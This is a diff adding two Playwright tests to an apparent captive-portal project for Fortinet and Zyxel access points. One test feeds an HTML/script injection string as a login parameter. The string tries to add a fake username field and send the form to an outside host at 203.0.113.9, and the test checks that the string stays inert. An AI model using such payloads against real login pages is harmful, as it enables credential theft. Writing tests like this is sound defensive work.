@@ -183,3 +183,42 @@ chromiumTest.each([
     expect(complaints).toEqual([]);
   },
 );
+
+chromiumTest(
+  "a value that a guest has made up stays a value in the form, and adds no field to it",
+  async () => {
+    const { visits, origin } = await openNas(({ body }) => {
+      const location = body.get("4Tredir");
+      return location ? { location } : { html: "no log-in" };
+    });
+    const { portal } = await openBranch(origin, { vendor: "fortinet" });
+    const { page, complaints } = await openChromium(390, true);
+    const magic = `"><input name="username" value="evil"></form><form action="http://203.0.113.9/"><script>document.title="x"</script>\r\nx='&quot;<%= 1 %>`;
+    const query = new URLSearchParams({ post: `${origin}/fgtauth?a="><b`, magic, usermac: MAC });
+    await page.goto(`${portal.origin}/?login&${query}`);
+    await signIn(page, portal.origin);
+    await page.getByRole("heading", { name: "You're online, Lan" }).waitFor();
+    const { body, url } = visits[0] as Visit;
+    expect([...body.keys()].sort()).toEqual(["4Tredir", "magic", "password", "username"]);
+    expect(body.get("magic")).toBe(magic);
+    expect(body.get("username")).not.toBe("evil");
+    expect(url.searchParams.get("a")).toBe('"><b');
+    expect(complaints).toEqual([]);
+  },
+);
+
+chromiumTest(
+  "a form sends itself, though the access point calls a field of it submit",
+  async () => {
+    const at = { landing: "" };
+    const { visits, origin } = await openNas(() => ({ location: at.landing }));
+    const { portal } = await openBranch(origin, { vendor: "zyxel", usernameField: "submit" });
+    at.landing = `${portal.origin}/terms`;
+    const { page } = await openChromium(390, true);
+    const query = new URLSearchParams({ apurl: `${origin}/cgi-bin/login.cgi`, usermac: MAC });
+    await page.goto(`${portal.origin}/?${query}`);
+    await signIn(page, portal.origin);
+    await page.waitForURL("**/terms", { timeout: 10_000 });
+    expect([...(visits[0]?.body.keys() ?? [])].sort()).toEqual(["password", "submit"]);
+  },
+);
